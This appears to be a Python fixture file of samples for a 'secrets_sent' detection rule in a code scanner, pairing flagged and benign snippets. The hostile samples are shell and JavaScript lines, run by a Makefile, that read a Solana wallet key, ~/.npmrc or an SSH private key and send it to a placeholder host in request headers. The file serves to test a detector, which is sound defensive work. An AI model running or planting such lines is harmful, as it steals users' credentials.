"""Samples and twins of `secrets_sent`: headers, fields of other names, tools of an editor, what is done again."""

from inspection.rules.sample import Sample, js


def _sh(text: str) -> Sample:
    """A script that plain `make` runs; its last line is the one that must be named."""
    return Sample(_made(text), "block", ("a.sh", text.count("\n")))


def _made(text: str) -> dict[str, str | bytes]:
    return {"Makefile": "all:\n\tsh a.sh\n", "a.sh": text}


HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "in a header of curl that does not say who asks": _sh(
            "key=$(base64 < ~/.config/solana/id.json | tr -d '\\n')\ncurl -H \"x-proof: $key\" https://a.invalid\n"
        ),
        "as the name of a browser": _sh('curl -s -A "$(cat ~/.npmrc)" https://a.invalid\n'),
        "a key of the machine where a token stands": js(
            "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
            "fetch('https://a.invalid', { headers: { Authorization: `Bearer ${btoa(key)}` } });\n"
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "in a header of curl that says who asks": _made(
            'key=$(cut -d= -f2 < ~/.npmrc)\ncurl -H "x-auth-token: $key" https://a.invalid\n'
        ),
        "the name of a browser that stands there": _made(
            'curl -s -A "Mozilla/5.0" -u "me:$(cat ~/.netrc)" https://a.invalid\n'
        ),
        "a token of a registry where a token stands": {
            "app.js": "const key = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
            "fetch('https://a.invalid', { headers: { Authorization: `Bearer ${btoa(key)}` } });\n"
        },
    },
}
